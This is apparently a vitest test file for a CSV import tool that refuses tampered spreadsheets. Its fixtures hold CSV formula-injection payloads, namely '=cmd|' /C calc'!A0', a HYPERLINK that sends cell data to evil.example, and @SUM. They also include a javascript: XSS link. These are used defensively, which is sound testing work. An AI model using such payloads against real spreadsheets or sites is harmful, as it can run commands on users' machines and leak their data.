/**
 * `npm run import` from an attacker's side and an author's: a spreadsheet someone has tampered
 * with (formulas behind the export's own apostrophe, formulas in a measure's note, an unquoted
 * comma, a text or a file over its limit, a CSV of 10 MB) is refused with its row and column,
 * and nothing is written; what an author really writes (negative figures, text the check
 * accepts) still goes in, and what the import writes always passes `npm run check`.
 */
import { cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { importActions } from '../../src/authoring/import.ts';
import { importMeasures } from '../../src/authoring/import-measures.ts';
import { checkContent } from '../../src/model/check.ts';
import { actionColumns } from '../../src/open-data/actions-csv.ts';
import { measuresCsv } from '../../src/open-data/measures-csv.ts';
import { md, validTree, writeTree, type ContentTree, type Tree } from '../helpers/content-tree.ts';
import { edited, publishedCsv } from './csv-files.ts';
import { changedFiles, runScript, snapshotFiles } from './files.ts';

let tree: ContentTree | undefined;
afterEach(() => {
  tree?.remove();
  tree = undefined;
});

function setUp(extra: Tree = {}) {
  tree = writeTree({ ...validTree(), ...extra });
  const csvPath = path.join(tree.root, 'actions.csv');
  return { csvPath, contentDir: tree.contentDir, write: (text: string) => writeFileSync(csvPath, text) };
}

/** The report with the temporary folder's path taken out. */
const stable = (report: string) => report.split(`${tree!.root}/`).join('');

const errors = (contentDir: string) => checkContent(contentDir).problems.filter((p) => p.severity !== 'warning');

/** The measures fixture in a temporary folder, and a measures.csv as published plus `extra` rows. */
function measuresSetUp(extraFiles: Tree = {}) {
  const root = mkdtempSync(path.join(os.tmpdir(), 'plan-publisher-measures-'));
  const contentDir = path.join(root, 'content');
  cpSync(path.resolve('tests/fixtures/measures-plan/content'), contentDir, { recursive: true });
  for (const [file, text] of Object.entries(extraFiles)) writeFileSync(path.join(contentDir, file), text);
  tree = { root, contentDir, remove: () => rmSync(root, { recursive: true, force: true }) };
  const csvPath = path.join(root, 'measures.csv');
  const published = () => {
    const site = checkContent(contentDir).index.site('riverside')!;
    return `\uFEFF${measuresCsv(site.measures, (m) => url(m.slug))}`;
  };
  return { contentDir, csvPath, published, write: (text: string) => writeFileSync(csvPath, text) };
}
const url = (id: string) => `https://plan.example.org.uk/riverside/measures/${id}/`;
/** A measures.csv row as a spreadsheet saves it: cells quoted only where RFC 4180 needs it. */
const row = (measure: string, date: string, value: string, note = '') =>
  [measure, '', '', date, value, note, url(measure)].map((v) => (/[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v)).join(',') + '\r\n';

describe('formulas: one rule for every import, after the apostrophe our export adds', () => {
  it("refuses a formula behind an apostrophe in actions.csv ('=cmd|...), naming each row and column, and writes nothing", () => {
    const { csvPath, contentDir, write } = setUp();
    write(
      edited(publishedCsv(contentDir), {
        'deliver-training': {
          lead: `'+HYPERLINK("https://evil.example/","Lead")`,
          last_update_date: '2021-06-30',
          last_update_by: "'@SUM(1+1)",
          last_update_text: "'=cmd|' /C calc'!A0",
        },
      }),
    );
    const before = snapshotFiles(contentDir);
    const result = importActions({ csvPath, contentDir });
    expect(result.exitCode).toBe(1);
    expect(
      stable(result.report)
        .split('\n')
        .filter((line) => /^ {4}(?!hint)\w+:/.test(line)),
    ).toEqual([
      `    lead: "'+HYPERLINK("https://evil.example/","Lead")" is a spreadsheet formula, not text`,
      `    last_update_by: "'@SUM(1+1)" is a spreadsheet formula, not text`,
      `    last_update_text: "'=cmd|' /C calc'!A0" is a spreadsheet formula, not text`,
    ]);
    expect(changedFiles(before, snapshotFiles(contentDir))).toEqual([]);
  });

  it("refuses a formula in a measure's note, date or value (=HYPERLINK, @SUM, behind an apostrophe too), and writes nothing", () => {
    const { contentDir, published, write, csvPath } = measuresSetUp();
    write(
      published() +
        row('cp-second-time', '2023-03-31', '231', '=HYPERLINK("https://evil.example/?d="&A1,"Source")') +
        row('neglect-confidence', '2023-03-31', '70', '@SUM(1+1)') +
        row('missing-episodes', '2023-03-31', '30', "'=cmd|' /C calc'!A0") +
        row('return-interview-days', '2023-03-31', "-3+cmd|' /C calc'!A0") +
        row('strategy-meetings', '=TODAY()', '80'),
    );
    const before = snapshotFiles(contentDir);
    const result = importMeasures({ csvPath, contentDir });
    expect(result.exitCode).toBe(1);
    const rows = published().split('\r\n').length - 1;
    expect(stable(result.report).split('\n').slice(0, 15)).toEqual([
      `error measures.csv row ${rows + 1}`,
      `    note: "=HYPERLINK("https://evil.example/?d="&A1,"Source")" is a spreadsheet formula, not text`,
      expect.stringContaining('    hint: the import never copies a formula into the plan'),
      `error measures.csv row ${rows + 2}`,
      '    note: "@SUM(1+1)" is a spreadsheet formula, not text',
      expect.stringContaining('    hint:'),
      `error measures.csv row ${rows + 3}`,
      `    note: "'=cmd|' /C calc'!A0" is a spreadsheet formula, not text`,
      expect.stringContaining('    hint:'),
      `error measures.csv row ${rows + 4}`,
      `    value: "-3+cmd|' /C calc'!A0" is a spreadsheet formula, not a number`,
      '    hint: type the number itself, like 23.1 or -3',
      `error measures.csv row ${rows + 5}`,
      '    date: "=TODAY()" is a spreadsheet formula, not a date',
      '',
    ]);
    expect(changedFiles(before, snapshotFiles(contentDir))).toEqual([]);
  });

  it('reads a negative value as a number, with or without the apostrophe the export puts before it, and round-trips it', () => {
    const change = md`
      ---
      title: Change in referrals on the year before
      counts: Referrals to children's social care, less those in the year before
      unit: number
      frequency: yearly
      plan: business-plan
      source: Riverside Council
      values:
        - { date: 2021-03-31, value: -3 }
        - { date: 2022-03-31, value: -1.5 }
      ---
      The year's referrals less the year before's.
    `;
    const { contentDir, published, write, csvPath } = measuresSetUp({ 'riverside/measures/referral-change.md': change });
    expect(published()).toContain(`referral-change,Change in referrals on the year before,number,2021-03-31,'-3,,`);
    write(published());
    expect(importMeasures({ csvPath, contentDir }).report).toContain('No changes');
    write(published() + row('referral-change', '2023-03-31', '-4') + row('referral-change', '2024-03-31', "'-5", 'provisional'));
    const result = importMeasures({ csvPath, contentDir });
    expect(result.exitCode, result.report).toBe(0);
    const measure = checkContent(contentDir)
      .index.site('riverside')!
      .measures.find((m) => m.slug === 'referral-change')!;
    expect(measure.entry.data.values.map((v) => v.value)).toEqual([-3, -1.5, -4, -5]);
    write(published());
    expect(importMeasures({ csvPath, contentDir }).report).toContain('No changes');
  });
});

describe('rows with more or fewer cells than the header', () => {
  it('refuses a measures row with an unquoted comma, or a cell missing, by its row number, and writes nothing', () => {
    const { contentDir, published, write, csvPath } = measuresSetUp();
    const rows = published().split('\r\n').length - 1;
    write(
      published() +
        `neglect-confidence,,,2023-03-31,70,provisional, to be confirmed,${url('neglect-confidence')}\r\n` +
        `cp-second-time,,,2023-03-31,231,provisional\r\n`,
    );
    const before = snapshotFiles(contentDir);
    const result = importMeasures({ csvPath, contentDir });
    expect(result.exitCode).toBe(1);
    expect(stable(result.report)).toBe(
      [
        `error measures.csv row ${rows + 1}`,
        '    this row has 8 cells, but the header has 7',
        '    hint: a comma inside a cell may have lost the quotes around it: open the file in a spreadsheet and save it as CSV again',
        `error measures.csv row ${rows + 2}`,
        '    this row has 6 cells, but the header has 7',
        '    hint: a comma inside a cell may have lost the quotes around it: open the file in a spreadsheet and save it as CSV again',
        '',
        '2 problems found. Nothing was written; fix the spreadsheet and run the import again.',
      ].join('\n'),
    );
    expect(changedFiles(before, snapshotFiles(contentDir))).toEqual([]);
  });
});

describe('what the import writes passes `npm run check`', () => {
  it('refuses a 30,000-character update, by its row and column, so the next build does not fail', () => {
    const { csvPath, contentDir, write } = setUp();
    write(
      edited(publishedCsv(contentDir), { 'deliver-training': { last_update_date: '2021-06-30', last_update_text: 'x'.repeat(30_000) } }),
    );
    const before = snapshotFiles(contentDir);
    const result = importActions({ csvPath, contentDir });
    expect(result.exitCode).toBe(1);
    expect(stable(result.report)).toBe(
      [
        'error actions.csv row 2',
        '    last_update_text: the text is 30,000 characters long, more than the limit of 20,000 for one value',
        '    hint: shorten it: give a summary here, and a link to the full report',
        '',
        '1 problem found. Nothing was written; fix the spreadsheet and run the import again.',
      ].join('\n'),
    );
    expect(changedFiles(before, snapshotFiles(contentDir))).toEqual([]);
    expect(errors(contentDir)).toEqual([]);
  });

  it("refuses a measure's note over the limit too", () => {
    const { contentDir, published, write, csvPath } = measuresSetUp();
    write(published() + row('cp-second-time', '2023-03-31', '231', 'n'.repeat(20_001)));
    const result = importMeasures({ csvPath, contentDir });
    expect(result.exitCode).toBe(1);
    expect(stable(result.report)).toContain('    note: the text is 20,001 characters long, more than the limit of 20,000 for one value');
    expect(errors(contentDir)).toEqual([]);
  });

  it('refuses an update that would take its file over the size limit, naming the row and the file', () => {
    // Within every limit of one value and of the body, but near the limit of 1,024 kB for the file: three bytes a character.
    const long = '漢'.repeat(19_000);
    const progress = Array.from({ length: 7 }, (_, i) => `  - date: 2021-0${i + 1}-01\n    text: ${long}\n`).join('');
    const body = '字'.repeat(199_000);
    const { csvPath, contentDir, write } = setUp({
      'hampshire/actions/big-action.md': `---\ntitle: A long action\norder: 2\nobjective: understand-neglect\nprogress:\n${progress}---\n${body}\n`,
    });
    expect(errors(contentDir)).toEqual([]);
    write(edited(publishedCsv(contentDir), { 'big-action': { last_update_date: '2021-09-30', last_update_text: long } }));
    const before = snapshotFiles(contentDir);
    const result = importActions({ csvPath, contentDir });
    expect(result.exitCode).toBe(1);
    const lines = stable(result.report).split('\n');
    expect(lines[0]).toBe('error actions.csv row 3');
    expect(lines[1]).toMatch(
      /^ {4}the file is 10\d\d kB, more than the limit of 1024 kB for one file; written into content\/hampshire\/actions\/big-action\.md, it would fail `npm run check`$/,
    );
    expect(lines[2]).toBe('    hint: split it into several items, or move long documents elsewhere and link to them');
    expect(changedFiles(before, snapshotFiles(contentDir))).toEqual([]);
  });

  it('names what the check refuses in an update (a javascript: link), with its row and column', () => {
    const { csvPath, contentDir, write } = setUp();
    write(
      edited(publishedCsv(contentDir), {
        'deliver-training': { last_update_date: '2021-06-30', last_update_text: 'See [the report](javascript:alert(document.domain)).' },
      }),
    );
    const result = importActions({ csvPath, contentDir });
    expect(result.exitCode).toBe(1);
    const lines = stable(result.report).split('\n');
    expect(lines[0]).toBe('error actions.csv row 2');
    expect(lines[1]).toMatch(
      /^ {4}last_update_text: .*javascript.*; written into content\/hampshire\/actions\/deliver-training\.md \(progress\[2\]\.text\), it would fail `npm run check`$/,
    );
    expect(errors(contentDir)).toEqual([]);
  });
});

describe('a CSV too large, or with too many bad rows', () => {
  it('refuses a CSV over the size limit before reading it, in one message that says the limit', () => {
    const { csvPath, write } = setUp();
    const header = actionColumns.join(',');
    const bad = actionColumns.map((c) => (c === 'id' ? 'no-such-action' : c === 'status' ? 'compelte' : '')).join(',');
    write(`${header}\r\n${`${bad}\r\n`.repeat(Math.ceil((6 * 1024 * 1024) / (bad.length + 2)))}`);
    const run = runScript('import', [csvPath], tree!.root);
    expect(run.status).toBe(1);
    expect(run.stderr).toBe(
      [
        'error actions.csv',
        "    the file is 6 MB, more than the import's limit of 5 MB",
        "    hint: a partnership's whole actions.csv is usually well under 1 MB: import the file the site published, with only your changes, or split the rows across several files",
        '',
        '1 problem found. Nothing was written; fix the spreadsheet and run the import again.',
        '',
      ].join('\n'),
    );
  });

  it('prints the first 50 problems and how many more there are, not one for every row', () => {
    const { csvPath, contentDir, write } = setUp();
    const [header] = publishedCsv(contentDir)
      .replace(/^\uFEFF/, '')
      .split('\r\n');
    const rows = Array.from({ length: 120 }, (_, i) => actionColumns.map((c) => (c === 'id' ? `missing-${i}` : '')).join(','));
    write(`${header}\r\n${rows.join('\r\n')}\r\n`);
    const result = importActions({ csvPath, contentDir });
    expect(result.exitCode).toBe(1);
    expect(result.problems).toHaveLength(120);
    const report = stable(result.report);
    expect(report.match(/^error /gm)).toHaveLength(50);
    expect(report).toContain('error actions.csv row 51\n');
    expect(report).not.toContain('error actions.csv row 52\n');
    expect(
      report.endsWith(
        '... and 70 more problems, not shown: fix these first, then import again to see the rest.\n\n120 problems found. Nothing was written; fix the spreadsheet and run the import again.',
      ),
    ).toBe(true);
  });
});
